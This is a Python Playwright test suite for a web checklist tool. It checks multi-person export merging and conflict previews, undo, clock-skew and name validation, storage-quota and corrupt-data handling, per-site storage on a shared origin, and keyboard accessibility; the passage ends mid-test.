"""A team on the checklist pages: two and three people edit the same and different fields, apply a
narrower plan and exchange exports in every order; nothing a person set is lost unless a later person
changed that field, every replacement is shown first, and every page (and the CLI, in every file order)
ends in the same state. Also: the undo stack, clocks, names, the page's import on the whole corpus,
storage failures, two guides on one origin, keyboard use, filters, safe exports."""

from __future__ import annotations

import itertools
import json
import re
import urllib.parse
from pathlib import Path

import pytest
from playwright.sync_api import expect

from browser import axe_violations, item_field, show_every_check, storage_key
from conftest import REAL
from conftest import cli as run_cli
from fieldguide import graph, load, plan, statefile
from fieldguide.schema import Profile
from state_corpus import corpus

CAT = load.load(REAL)
G = graph.build(CAT)
DD = [i.id for i in CAT.challenges["data-discovery"].checklist]
DATA_MANAGEMENT = [i.id for c in CAT.challenges.values() if CAT.stage_of(c.step).id == "data-management"
                   for i in c.checklist]
PR = "https://git.example.org/team/model/pull/12"


def open_checklist(page, site, stage: str = "data-management") -> None:
    page.goto(f"{site.url}checklists/{stage}/", wait_until="networkidle")


def download(page, button: str = "[data-fg-export=json]") -> str:
    with page.expect_download() as info:
        page.locator(button).click()
    return Path(info.value.path()).read_text(encoding="utf-8")


def import_text(page, name: str, text: str) -> None:
    page.locator("#fg-import").set_input_files(files=[{"name": name, "mimeType": "application/json",
                                                        "buffer": text.encode()}])


def raw_store(page, site) -> str | None:
    return page.evaluate("k => localStorage.getItem(k)", storage_key(site))


def stored(page, site) -> dict:
    return json.loads(raw_store(page, site) or '{"items": {}}')["items"]


def set_status(page, item: str, status: str, reason: str | None = None) -> None:
    item_field(page, "status", item).select_option(status)
    if reason is not None:
        item_field(page, "reason", item).fill(reason)


def open_more(page, item: str) -> None:
    item_field(page, "status", item)  # the pointer reaches the item: its controls are made
    details = page.locator(f'li[data-item="{item}"] details.fg-more')
    if details.get_attribute("open") is None:
        details.locator("summary").click()


@pytest.fixture
def people(browser):
    """People, each in their own browser context (own storage), with their clock set."""
    contexts = []

    def person(name: str, clock: str):
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        contexts.append(context)
        tab = context.new_page()
        tab.errors = []
        tab.on("pageerror", lambda exc: tab.errors.append(str(exc)))
        tab.clock.set_fixed_time(clock)
        tab.person = name
        return tab

    yield person
    for context in contexts:
        context.close()


def join_as(page, site, path: str = "checklists/") -> None:
    page.goto(site.url + path, wait_until="networkidle")
    if path == "checklists/":
        show_every_check(page)
    page.locator("#fg-name").fill(page.person)


# ---------------------------------------------------------------- two people, one item, different fields


def test_a_later_edit_of_one_field_keeps_every_other_field_in_both_directions(people, site, tmp_path: Path) -> None:
    """The issue's first case: Alice sets status, owner, note and link; Bea, who has Alice's file, later
    changes only the status. Either import keeps Alice's owner, note and link; the preview names the
    status change with before, after and who, and nothing else."""
    alice, bea = people("Alice", "2026-11-29T09:00:00Z"), people("Bea", "2026-11-29T09:00:00Z")
    item = DD[0]
    for who in (alice, bea):
        join_as(who, site, "checklists/data-management/")
    set_status(alice, item, "in-progress")
    item_field(alice, "owner", item).fill("carol")
    open_more(alice, item)
    item_field(alice, "note", item).fill("Owners listed in the data map")
    item_field(alice, "evidence", item).fill(PR)
    from_alice = download(alice)
    import_text(bea, "alice.json", from_alice)
    bea.locator("[data-fg-import-apply]").click()
    bea.clock.set_fixed_time("2026-11-29T10:00:00Z")
    bea.locator(f"#done-{item}").check()
    from_bea = download(bea)

    import_text(alice, "bea.json", from_bea)
    preview = alice.locator(".fg-preview")
    expect(preview).to_contain_text("0 new, 1 changed, 0 conflict(s)")
    expect(preview).to_contain_text("Status: in progress (Alice, 2026-11-29 09:00 UTC) → "
                                    "done (Bea, 2026-11-29 10:00 UTC)")
    expect(preview.locator(".fg-preview-change")).to_have_count(1)
    alice.locator("[data-fg-import-apply]").click()
    for who in (alice, bea):
        who.reload(wait_until="networkidle")
        expect(who.locator(f"#done-{item}")).to_be_checked()
        expect(who.locator(f"#owner-{item}")).to_have_value("carol")
        expect(who.locator(f"#note-{item}")).to_have_value("Owners listed in the data map")
        expect(who.locator(f"#evidence-{item}")).to_have_value(PR)
    assert stored(alice, site) == stored(bea, site)
    # Bea imports Alice's older file again: "unchanged", and it is.
    import_text(bea, "alice.json", from_alice)
    expect(bea.locator(".fg-preview")).to_contain_text("0 new, 0 changed, 0 conflict(s), 1 unchanged")
    assert alice.errors == bea.errors == []


def test_both_changing_a_field_is_a_conflict_that_settles_the_same_everywhere(people, site) -> None:
    """Same-second and later edits on both sides without an exchange: every page ends in the same state;
    a person's choice against the default is recorded and settles the conflict for the other side too."""
    ana, raj = people("Ana", "2026-11-29T10:00:00Z"), people("Raj", "2026-11-29T10:00:00Z")
    for who in (ana, raj):
        join_as(who, site, "checklists/data-management/")
    set_status(ana, DD[2], "in-progress")  # the same second: settled by the author's name (Raj after Ana)
    raj.locator(f"#done-{DD[2]}").check()
    open_more(ana, DD[3])
    item_field(ana, "note", DD[3]).fill("Checked the warehouse")
    raj.clock.set_fixed_time("2026-11-29T11:00:00Z")
    open_more(raj, DD[3])
    item_field(raj, "note", DD[3]).fill("Logs only")
    from_ana, from_raj = download(ana), download(raj)

    import_text(ana, "raj.json", from_raj)
    preview = ana.locator(".fg-preview")
    expect(preview).to_contain_text("2 conflict(s)")
    note = preview.locator(f'[data-fg-conflict="{DD[3]} note"]')
    expect(note).to_contain_text("Yours: “Checked the warehouse” (Ana, 2026-11-29 10:00 UTC)")
    expect(note).to_contain_text("Theirs: “Logs only” (Raj, 2026-11-29 11:00 UTC)")
    expect(note.locator("input[value=theirs]")).to_be_checked()  # the default: the later change
    note.get_by_label("Keep both (notes appended)").check()
    ana.locator("[data-fg-import-apply]").click()
    expect(ana.locator(".fg-message")).to_contain_text("1 conflict(s) settled your way")
    open_more(ana, DD[3])
    expect(ana.locator(f"#note-{DD[3]}")).to_have_value("Checked the warehouse\n\nLogs only")
    expect(ana.locator(f"#status-{DD[2]}")).to_have_value("done")  # Raj's, as on Raj's page

    # Raj imports Ana's first file (a conflict, the default keeps his), then her merged one: her choice
    # was made over both notes, so it is a plain change for him, not the conflict again.
    import_text(raj, "ana.json", from_ana)
    expect(raj.locator(".fg-preview")).to_contain_text("conflict(s)")
    raj.locator("[data-fg-import-apply]").click()
    import_text(raj, "ana-merged.json", download(ana))
    expect(raj.locator(".fg-preview")).to_contain_text("0 new, 1 changed, 0 conflict(s)")
    # Ana's clock said 10:00: her choice is stamped one second after the latest value it settles.
    settled = "“Checked the warehouse\n\nLogs only” (Ana, 2026-11-29 11:00:01 UTC)"
    expect(raj.locator(".fg-preview")).to_contain_text(f"Note: “Logs only” (Raj, 2026-11-29 11:00 UTC) → {settled}")
    raj.locator("[data-fg-import-apply]").click()
    assert stored(ana, site) == stored(raj, site)


# ---------------------------------------------------------------- three people, a narrower plan, every order


def test_three_people_and_a_narrower_plan_end_equal_in_every_order_and_the_cli_agrees(people, site,
                                                                                       tmp_path: Path) -> None:
    alice, bea, raj = people("Alice", "2026-11-29T09:00:00Z"), people("Bea", "2026-11-29T09:00:00Z"), \
        people("Raj", "2026-11-29T11:00:00Z")
    for who in (alice, bea):
        join_as(who, site)
    # 09:00 Alice: an item in progress with owner, note and link; an accepted risk.
    set_status(alice, DD[0], "in-progress")
    item_field(alice, "owner", DD[0]).fill("carol")
    open_more(alice, DD[0])
    item_field(alice, "note", DD[0]).fill("Owners listed in the data map")
    item_field(alice, "evidence", DD[0]).fill(PR)
    set_status(alice, DD[1], "accepted-risk", "No budget this quarter")
    # 09:00 Bea: a not-applicable item with its reason, an owner.
    set_status(bea, DD[2], "na", "We have one source system")
    item_field(bea, "owner", DD[3]).fill("Bea")
    import_text(bea, "alice.json", download(alice))
    bea.locator("[data-fg-import-apply]").click()
    # 10:00 Bea, having Alice's file: marks Alice's item done and adds a note to the accepted risk.
    # 10:00 Alice, not having Bea's: names herself owner of the item Bea owns.
    for who in (alice, bea):
        who.clock.set_fixed_time("2026-11-29T10:00:00Z")
    bea.locator(f"#done-{DD[0]}").check()
    open_more(bea, DD[1])
    item_field(bea, "note", DD[1]).fill("Revisit in Q3")
    item_field(alice, "owner", DD[3]).fill("Alice")
    # 11:00 Raj opens a narrower plan: only model deployment in scope. Opening the link stores nothing.
    link = "checklists/?plan=1&name=Credit+v2&stage=model-deployment"
    raj.goto(site.url + link, wait_until="networkidle")
    expect(raj.locator(".fg-plan-intro")).to_contain_text("Plan for Credit v2")
    assert raj_store_empty(raj, site), "a link alone never changes the checklist"
    raj.locator("#fg-name").fill("Raj")
    raj.locator("[data-fg-plan-scope]").click()
    expect(raj.locator(".fg-message")).to_contain_text("out of scope for Credit v2")
    item_field(raj, "owner", DD[4]).fill("Raj")

    files = {who.person: download(who) for who in (alice, bea, raj)}
    for name, text in files.items():
        (tmp_path / f"{name}.json").write_text(text, encoding="utf-8")
    previews: dict[str, list[str]] = {}
    for who, order in ((alice, ("Bea", "Raj")), (bea, ("Raj", "Alice")), (raj, ("Alice", "Bea"))):
        for name in order:
            import_text(who, f"{name}.json", files[name])
            preview = who.locator(".fg-preview")
            expect(preview).to_be_visible()  # every change and conflict it lists, folded or not:
            previews.setdefault(who.person, []).extend(
                preview.locator(".fg-preview-change, .fg-conflict").all_text_contents())
            who.locator("[data-fg-import-apply]").click()
            expect(who.locator(".fg-message")).to_contain_text(f"Imported {name}.json")

    final = [stored(who, site) for who in (alice, bea, raj)]
    assert final[0] == final[1] == final[2], "every page shows the same state"
    items = final[0]
    # What people set survives unless a later person changed that field...
    assert items[DD[0]]["status"] == "done" and items[DD[0]]["owner"] == "carol"
    assert items[DD[0]]["note"] == "Owners listed in the data map" and items[DD[0]]["evidence"] == PR
    assert (items[DD[1]]["status"], items[DD[1]]["reason"], items[DD[1]]["note"]) == \
        ("accepted-risk", "No budget this quarter", "Revisit in Q3")
    assert (items[DD[2]]["status"], items[DD[2]]["reason"]) == ("na", "We have one source system")
    assert items[DD[3]]["owner"] == "Alice" and items[DD[4]]["owner"] == "Raj"
    # ...the plan's marks filled only what nobody set...
    assert (items[DD[4]]["status"], items[DD[4]]["reason"]) == ("na", "out of scope for Credit v2")
    assert items[DD[4]]["changed"]["status"]["default"] is True
    untouched = [i for i in DATA_MANAGEMENT if i not in DD[:4]]
    assert all(items[i]["reason"] == "out of scope for Credit v2" for i in untouched)
    # ...and each replaced person's value was shown in the preview of the page that lost it.
    assert any("Status: in progress (Alice, 2026-11-29 09:00 UTC) → done (Bea, 2026-11-29 10:00 UTC)" in text
               for text in previews["Alice"])
    assert any("Owner: changed on both sides since you last agreed" in text and "Yours: “Bea”" in text
               for text in previews["Bea"])
    assert any("(not set) → not applicable: “out of scope for Credit v2”" in t for t in previews["Alice"])
    for text in previews["Alice"] + previews["Bea"]:
        if "→ not applicable: “out of scope" in text:
            assert text.startswith("Status: (not set) →"), f"a default replaced something: {text}"

    # The same three files through the CLI, in every order: one result, the pages' result.
    outputs = {run_cli("checklist", "merge", *(tmp_path / f"{n}.json" for n in order)).stdout
               for order in itertools.permutations(("Alice", "Bea", "Raj"))}
    assert len(outputs) == 1
    cli_items = {i["id"]: i for i in json.loads(outputs.pop())["items"] if "changed" in i or i["status"] != "open"}
    assert cli_items == {i: {"id": i, **body} for i, body in items.items()}
    assert alice.errors == bea.errors == raj.errors == []


def raj_store_empty(page, site) -> bool:
    return raw_store(page, site) is None


def test_a_narrower_plan_never_replaces_hand_set_items_in_either_merge_order(people, site) -> None:
    kim, raj = people("Kim", "2026-11-29T09:00:00Z"), people("Raj", "2026-11-30T09:00:00Z")
    join_as(kim, site)
    set_status(kim, DD[0], "in-progress")
    item_field(kim, "owner", DD[0]).fill("Kim")
    set_status(kim, DD[1], "accepted-risk", "Only one team uses it")
    set_status(kim, DD[2], "na", "No logs in this project")
    raj.goto(site.url + "checklists/?plan=1&name=Fraud&stage=model-learning", wait_until="networkidle")
    raj.locator("#fg-name").fill("Raj")
    raj.locator("[data-fg-plan-scope]").click()  # a day later than Kim's edits
    from_kim, from_raj = download(kim), download(raj)
    import_text(kim, "raj.json", from_raj)
    preview = kim.locator(".fg-preview")
    expect(preview).to_be_visible()
    for item in DD[:3]:
        expect(preview).not_to_contain_text(item)
    kim.locator("[data-fg-import-apply]").click()
    import_text(raj, "kim.json", from_kim)
    expect(raj.locator(".fg-preview")).to_contain_text("0 conflict(s)")
    expect(raj.locator(".fg-preview")).to_contain_text("Status: not applicable: “out of scope for Fraud” (Raj, "
                                                      "2026-11-30 09:00 UTC, a default) → in progress (Kim")
    raj.locator("[data-fg-import-apply]").click()
    for who in (kim, raj):
        items = stored(who, site)
        assert (items[DD[0]]["status"], items[DD[0]]["owner"]) == ("in-progress", "Kim")
        assert (items[DD[1]]["status"], items[DD[1]]["reason"]) == ("accepted-risk", "Only one team uses it")
        assert (items[DD[2]]["status"], items[DD[2]]["reason"]) == ("na", "No logs in this project")
    assert stored(kim, site) == stored(raj, site)


def test_the_planner_opens_the_checklists_for_its_plan_and_marks_scope_only_on_a_click(page, site) -> None:
    page.goto(site.url + "planner/", wait_until="networkidle")
    page.locator("#fg-plan-name").fill("Sepsis watch")
    page.select_option("#fg-plan-industry", "healthcare")
    page.locator("#fg-trait-regulated").check()
    page.locator("#fg-stage-model-learning").uncheck()
    expect(page).to_have_url(re.compile(
        r"planner/\?plan=1&name=Sepsis\+watch&(?:description=&)?industry=healthcare&trait=regulated"))
    shared = page.url
    page.locator("#fg-plan-checklists").click()
    page.wait_for_url("**/checklists/?plan=1*")
    expect(page.locator(".fg-plan-intro")).to_contain_text("Plan for Sepsis watch")  # every stage fetched, ranked
    profile = Profile(name="Sepsis watch", industry="healthcare", traits=["regulated"],
                      stages=[s.id for s in CAT.stages if s.id != "model-learning"])
    expected = [r.id for r in plan.rank(CAT, G, profile)]
    shown = page.locator(".fg-plan-order .fg-challenge").evaluate_all("els => els.map(e => e.dataset.challenge)")
    assert shown == expected, "challenges in the planner's ranked order"
    assert stored(page, site) == {}, "opening the plan's link stores nothing"
    learning = [i.id for c in CAT.challenges.values() if CAT.stage_of(c.step).id == "model-learning"
                for i in c.checklist]
    page.locator("[data-fg-plan-scope]").click()
    items = stored(page, site)
    assert sorted(items) == sorted(learning)
    assert all(items[i]["reason"] == "out of scope for Sepsis watch" and items[i]["changed"]["status"]["default"]
               for i in learning)
    expect(page.locator("[data-fg-undo]")).to_have_text("Undo plan scope for “Sepsis watch”")
    page.locator("[data-fg-undo]").click()
    assert stored(page, site) == {}
    # A shared link restores the plan, and wins over what this browser remembered.
    page.goto(site.url + "planner/?plan=1&industry=finance&stage=data-management", wait_until="networkidle")
    expect(page.locator("#fg-plan-industry")).to_have_value("finance")
    expect(page.locator("#fg-trait-regulated")).not_to_be_checked()
    page.goto(shared, wait_until="networkidle")
    expect(page.locator("#fg-plan-name")).to_have_value("Sepsis watch")
    expect(page.locator("#fg-stage-model-learning")).not_to_be_checked()


def test_a_huge_or_hostile_plan_name_still_makes_reasons_the_import_accepts(page, site, tmp_path: Path) -> None:
    name = "\u202e" + "x" * 5000
    page.goto(site.url + f"checklists/?plan=1&name={name}&stage=data-management", wait_until="networkidle")
    page.locator("[data-fg-plan-scope]").click()
    reasons = {body["reason"] for body in stored(page, site).values()}
    assert len(reasons) == 1 and len(reasons.pop()) <= 220
    exported = tmp_path / "state.json"
    exported.write_text(download(page), encoding="utf-8")
    run_cli("gate", "--catalog", REAL, "--state", exported, "--stage", "model-learning")  # read, and ready


# ---------------------------------------------------------------- undo


def test_the_undo_stack_is_labelled_and_each_step_restores_exactly_the_state_before(page, site) -> None:
    page.goto(site.url + "checklists/", wait_until="networkidle")
    show_every_check(page)
    page.locator(f"#done-{DD[0]}").check()
    states = [raw_store(page, site)]
    labels = []
    for n in range(4):
        body = {"format": "fieldguide-checklist", "version": 3, "items": [
            {"id": DD[n + 1], "status": "done", "changed": {"status": {"at": f"2026-11-2{n}T10:00:00Z", "by": "B"}}}]}
        import_text(page, f"bea-{n}.json", json.dumps(body))
        page.locator("[data-fg-import-apply]").click()
        states.append(raw_store(page, site))
        labels.append(f"import of bea-{n}.json")
    page.goto(site.url + "checklists/?plan=1&name=Credit+v2&stage=model-learning", wait_until="networkidle")
    page.locator("[data-fg-plan-scope]").click()
    states.append(raw_store(page, site))
    labels.append("plan scope for “Credit v2”")
    page.once("dialog", lambda d: d.accept())
    page.locator("[data-fg-clear]").click()
    states.append(raw_store(page, site))
    labels.append("clearing this page")
    history = page.locator(".fg-undo-history")
    history.locator("summary").click()
    expect(history.locator("li")).to_have_count(6)
    expect(history.locator("li").first).to_contain_text("clearing this page")
    for label, before in zip(reversed(labels), reversed(states[:-1]), strict=True):
        expect(page.locator("[data-fg-undo]")).to_have_text(f"Undo {label}")
        page.locator("[data-fg-undo]").click()
        expect(page.locator(".fg-message")).to_contain_text(f"Undone: {label}.")
        assert raw_store(page, site) == before
    expect(page.locator("[data-fg-undo]")).to_be_hidden()
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()


def test_cancel_changes_nothing_and_undo_asks_before_undoing_later_edits(page, site) -> None:
    open_checklist(page, site)
    page.locator(f"#done-{DD[0]}").check()
    before = raw_store(page, site)
    incoming = {"format": "fieldguide-checklist", "version": 3, "items": [
        {"id": DD[1], "status": "accepted-risk", "reason": "Owners are tracked elsewhere",
         "changed": {"status": {"at": "2026-11-29T10:00:00Z"}}}]}
    import_text(page, "team.json", json.dumps(incoming))
    expect(page.locator(".fg-preview")).to_contain_text("1 new, 0 changed, 0 conflict(s)")
    expect(page.locator(".fg-preview")).to_be_focused()
    page.locator("[data-fg-import-cancel]").click()
    expect(page.locator(".fg-message")).to_contain_text("Import cancelled. Nothing was changed.")
    assert raw_store(page, site) == before
    import_text(page, "team.json", json.dumps(incoming))
    page.locator("[data-fg-import-apply]").click()
    item_field(page, "owner", DD[2]).fill("Kim")  # an edit after the import
    asked = []
    page.once("dialog", lambda d: (asked.append(d.message), d.dismiss()))
    page.locator("[data-fg-undo]").click()
    assert asked and "Changes made after it will be undone too" in asked[0]
    expect(page.locator(f"#owner-{DD[2]}")).to_have_value("Kim")  # dismissed: nothing undone
    page.once("dialog", lambda d: d.accept())
    page.locator("[data-fg-undo]").click()
    assert raw_store(page, site) == before


# ---------------------------------------------------------------- clocks and names


def test_a_far_future_change_time_is_counted_as_now_with_a_visible_warning(page, site) -> None:
    page.clock.set_fixed_time("2026-12-01T12:00:00Z")
    open_checklist(page, site)
    hostile = {"format": "fieldguide-checklist", "version": 3, "items": [
        {"id": DD[0], "status": "done", "changed": {"status": {"at": "9999-12-31T23:59:59Z", "by": "Kim"}}}]}
    import_text(page, "kim.json", json.dumps(hostile))
    warning = page.locator(".fg-preview-warnings")
    expect(warning).to_contain_text("more than a day ahead of this computer's clock")
    expect(warning).to_contain_text(f"items[0] ({DD[0]}): status: change time 9999-12-31T23:59:59Z")
    page.locator("[data-fg-import-apply]").click()
    assert stored(page, site)[DD[0]]["changed"]["status"]["at"] == "2026-12-01T12:00:00Z"
    page.clock.set_fixed_time("2026-12-01T12:05:00Z")
    item_field(page, "status", DD[0]).select_option("in-progress")  # a later change wins over it now
    assert stored(page, site)[DD[0]]["status"] == "in-progress"


def test_names_follow_the_file_formats_rules_as_they_are_typed(page, site, tmp_path: Path) -> None:
    open_checklist(page, site)
    name = page.locator("#fg-name")
    name.fill("Ana")
    name.fill("Ana\u202e")  # a bidi override: the format refuses it, so the page does not save it
    expect(page.locator("#fg-name-warning")).to_contain_text("U+202E")
    expect(name).to_have_attribute("aria-invalid", "true")
    page.locator(f"#done-{DD[0]}").check()
    assert stored(page, site)[DD[0]]["changed"]["status"]["by"] == "Ana", "stamped with the last valid name"
    exported = tmp_path / "state.json"
    exported.write_text(download(page), encoding="utf-8")
    assert statefile.read(exported)[1] == [], "the page's own export reads"
    run_cli("gate", "--catalog", REAL, "--state", exported, "--stage", "data-management", code=1)  # not ready: read
    import_text(page, "state.json", exported.read_text(encoding="utf-8"))
    expect(page.locator(".fg-preview")).to_be_visible()
    name.fill("Bea")
    expect(page.locator("#fg-name-warning")).to_be_hidden()


def test_the_page_gives_every_corpus_file_the_clis_verdict(page, site, tmp_path: Path) -> None:
    """The corpus of tests/states/corpus through the page's real import (file input, size check,
    UTF-8 decoding, the published schema): accepted files open the preview, the others are refused."""
    open_checklist(page, site)
    before = raw_store(page, site)
    wrong = []
    for name, expected, path in corpus(tmp_path):
        page.locator("#fg-import").set_input_files(files=[{"name": f"{name}.json", "mimeType": "application/json",
                                                            "buffer": path.read_bytes()}])
        outcome = page.locator(".fg-preview:not([hidden]), .fg-message:has-text('Not imported')")
        outcome.first.wait_for()
        verdict = "accept" if page.locator(".fg-preview").is_visible() else "refuse"
        cli = "accept" if statefile.read(path)[0] is not None else "refuse"
        if not verdict == cli == expected:
            wrong.append(f"{name}: expected {expected}, page {verdict}, CLI {cli}")
        if verdict == "accept":
            page.locator("[data-fg-import-cancel]").click()
        page.evaluate("document.querySelector('.fg-message').textContent = ''")
    assert wrong == []
    assert raw_store(page, site) == before, "no file changed anything unasked"


# ---------------------------------------------------------------- storage you can trust


FILL = """() => {
  const chunk = 'x'.repeat(1 << 20);
  let i = 0;
  for (let size = chunk.length; size >= 1; size = Math.floor(size / 2)) {
    try { for (;;) localStorage.setItem('fill-' + (i++), chunk.slice(0, size)); } catch (e) { /* next size */ }
  }
  return i;
}"""


UNFILL = "() => { for (const k of Object.keys(localStorage)) if (k.startsWith('fill-')) localStorage.removeItem(k); }"


def test_a_full_storage_is_shown_and_the_tick_visibly_not_saved(page, site) -> None:
    open_checklist(page, site)
    item_field(page, "owner", DD[0]).fill("Ana")
    before = raw_store(page, site)
    page.evaluate(FILL)
    box = page.locator(f"#done-{DD[1]}")
    box.evaluate("e => e.click()")  # a tick that needs a little more room than there is
    alert = page.locator(".fg-alert[role=alert]")
    expect(alert).to_contain_text("Not saved")
    expect(alert).to_contain_text("storage for this site is full")
    expect(box).not_to_be_checked()  # what is shown is what is stored
    expect(page.locator(f'li[data-item="{DD[1]}"]')).to_have_attribute("data-unsaved", "true")
    assert raw_store(page, site) == before
    page.evaluate(UNFILL)
    box.check()
    expect(alert).to_be_empty()
    assert stored(page, site)[DD[1]]["status"] == "done" and stored(page, site)[DD[0]]["owner"] == "Ana"


def test_unreadable_stored_data_is_kept_aside_once_and_replaced_not_accumulated(page, site) -> None:
    key = storage_key(site)
    open_checklist(page, site)
    page.evaluate("k => localStorage.setItem(k, '{broken one')", key)
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-message")).to_contain_text("kept aside")
    page.locator(f"#done-{DD[0]}").check()
    page.reload(wait_until="networkidle")
    page.reload(wait_until="networkidle")
    keys = [k for k in page.evaluate("Object.keys(localStorage)") if k.startswith(key)]
    assert sorted(keys) == [key, f"{key}.unreadable"], "one copy, not one per load"
    assert page.evaluate("k => localStorage.getItem(k)", f"{key}.unreadable") == "{broken one"
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    page.evaluate("k => localStorage.setItem(k, '[\"broken two\"]')", key)
    page.reload(wait_until="networkidle")
    assert page.evaluate("k => localStorage.getItem(k)", f"{key}.unreadable") == '["broken two"]', "the newest replaces"


def test_unreadable_data_that_cannot_be_kept_aside_is_never_written_over(page, site) -> None:
    open_checklist(page, site)
    page.evaluate("k => localStorage.setItem(k, '{broken')", storage_key(site))
    page.evaluate(FILL)
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-alert")).to_contain_text("no room to keep a copy")
    page.locator(f"#done-{DD[0]}").evaluate("e => e.click()")
    expect(page.locator(f"#done-{DD[0]}")).not_to_be_checked()
    assert raw_store(page, site) == "{broken"


def test_a_version_1_store_is_converted_once(page, site) -> None:
    open_checklist(page, site)
    old = {"version": 1, "items": {DD[0]: {"status": "done", "reason": "", "owner": "Ana", "note": ""},
                                   DD[1]: {"status": "na", "reason": "", "owner": "", "note": ""}}}
    page.evaluate("([k, old]) => localStorage.setItem(k, JSON.stringify(old))",
                  [storage_key(site, "fieldguide-checklist-v1"), old])
    page.reload(wait_until="networkidle")
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    expect(page.locator(f"#reason-{DD[1]}")).to_have_value("no reason recorded (converted from a version 1 file)")
    assert page.evaluate("k => localStorage.getItem(k)", storage_key(site, "fieldguide-checklist-v1")) is None
    assert stored(page, site)[DD[0]]["owner"] == "Ana"
    assert stored(page, site)[DD[1]]["changed"]["status"]["default"] is True, "the conversion text is a default"


# ---------------------------------------------------------------- two guides on one origin


@pytest.fixture
def two_sites(site, tmp_path: Path):
    """The same built site at /a/ and /b/ of one origin, as two projects on owner.github.io."""
    import urllib.parse

    from browser import free_port, serve

    root = tmp_path / "origin"
    root.mkdir()
    for name in ("a", "b"):
        (root / name).symlink_to(site.root, target_is_directory=True)
    port = free_port()
    with serve(root, port):
        yield f"http://127.0.0.1:{port}/a/", f"http://127.0.0.1:{port}/b/", urllib.parse


def test_two_guides_on_one_origin_never_share_state_and_old_shared_data_is_copied_to_each(page, two_sites) -> None:
    a, b, _ = two_sites
    # Data an older version saved under the shared keys: each guide takes its own copy, nothing is lost.
    legacy = {"version": 2, "items": {DD[0]: {"status": "done", "owner": "Ana", "updated": "2026-11-28T09:00:00Z"}}}
    page.goto(a + "checklists/data-management/", wait_until="networkidle")
    page.evaluate("s => { localStorage.clear(); localStorage.setItem('fieldguide-checklist', s);"
                  " localStorage.setItem('fieldguide-name', 'Ana'); localStorage.setItem('fieldguide-citations-v1',"
                  " JSON.stringify({version: 1, pages: ['fieldguide-concept-drift']})); }", json.dumps(legacy))
    for base in (a, b):
        page.goto(base + "checklists/data-management/", wait_until="networkidle")
        expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
        expect(page.locator(f"#owner-{DD[0]}")).to_have_value("Ana")
        expect(page.locator("#fg-name")).to_have_value("Ana")
    assert page.evaluate("localStorage.getItem('fieldguide-checklist')") == json.dumps(legacy), "left in place"
    # From now on, each guide keeps its own: a tick, a name and a citation on /a/ stay on /a/.
    page.goto(a + "checklists/data-management/", wait_until="networkidle")
    page.locator(f"#done-{DD[1]}").check()
    page.locator("#fg-name").fill("Raj")
    page.goto(a + "challenges/data-discovery/", wait_until="networkidle")
    page.locator(".fg-add-cite").click()
    page.goto(b + "checklists/data-management/", wait_until="networkidle")
    expect(page.locator(f"#done-{DD[1]}")).not_to_be_checked()
    expect(page.locator("#fg-name")).to_have_value("Ana")
    page.goto(b + "citations/", wait_until="networkidle")
    expect(page.locator(".fg-basket-list li")).to_have_count(1)  # only the migrated one
    page.goto(a + "citations/", wait_until="networkidle")
    expect(page.locator(".fg-basket-list li")).to_have_count(2)
    keys = page.evaluate("Object.keys(localStorage)")
    assert "/a/.fieldguide-checklist" in keys and "/b/.fieldguide-checklist" in keys


# ---------------------------------------------------------------- keyboard and accessibility


def test_keyboard_only_marks_an_item_done_and_another_not_applicable(page, site) -> None:
    open_checklist(page, site)
    page.keyboard.press("Tab")  # Material's "Skip to content"
    page.keyboard.press("Tab")
    expect(page.locator(".fg-skip")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(f"#done-{DD[0]}")).to_be_focused()
    # A visible focus ring (retried: under load the focus styles can land a frame after the focus).
    expect(page.locator(f"#done-{DD[0]}")).not_to_have_css("outline-style", "none")
    page.keyboard.press("Space")
    focused = ""
    for _ in range(12):
        page.keyboard.press("Tab")
        focused = page.evaluate("document.activeElement.id")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") not in ("none", ""), focused
        if focused == f"status-{DD[1]}":
            break
    assert focused == f"status-{DD[1]}"
    page.keyboard.type("n")  # "not applicable"
    page.keyboard.press("Tab")
    expect(page.locator(f"#reason-{DD[1]}")).to_be_focused()
    page.keyboard.type("One source system")
    page.keyboard.press("Tab")
    page.reload(wait_until="networkidle")
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("na")
    expect(page.locator(f"#reason-{DD[1]}")).to_have_value("One source system")
    changed = stored(page, site)[DD[1]]["changed"]["status"]
    assert changed.get("replaces", []) == [], "typing a reason is one change, not one per key press"


def test_the_skip_link_keeps_the_page_and_what_it_holds_unsaved(page, site) -> None:
    """Following the skip link only moves focus: the page is not fetched again and swapped in (as the
    theme's instant navigation does with a link to the same page), which dropped a status waiting for
    its reason and could lose a Space pressed right after (the flaky keyboard test above)."""
    open_checklist(page, site)
    item_field(page, "status", DD[1]).select_option("na")  # held until a reason is typed
    expect(page.locator(f'li[data-item="{DD[1]}"] .fg-item-warning')).to_be_visible()
    page.locator(".fg-skip").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Space")
    page.wait_for_load_state("networkidle")  # a refetch of the page, if any, has been swapped in
    expect(page.locator(f"#done-{DD[0]}")).to_be_focused()
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("na")
    expect(page.locator(f'li[data-item="{DD[1]}"] .fg-item-warning')).to_be_visible()
    assert stored(page, site)[DD[0]]["status"] == "done"
    assert urllib.parse.urlsplit(page.url).fragment == "", "the skip link adds no history entry"


def test_a_status_waiting_for_its_reason_survives_the_page_being_swapped_in_again(page, site) -> None:
    """Following a link to the page itself (here its own entry in the navigation) makes the theme's
    instant navigation fetch the page and swap it in. A status chosen but waiting for its reason was
    dropped then, and the item showed its saved status as if nothing had been chosen."""
    open_checklist(page, site)
    item_field(page, "status", DD[1]).select_option("na")
    warning = page.locator(f'li[data-item="{DD[1]}"] .fg-item-warning')
    expect(warning).to_be_visible()
    page.locator(".fg-item").first.evaluate("li => { li.dataset.beforeSwap = 'yes'; }")
    own = page.locator(f'nav a[href="./"], nav a[href="{site.url}checklists/data-management/"]').first
    own.click()
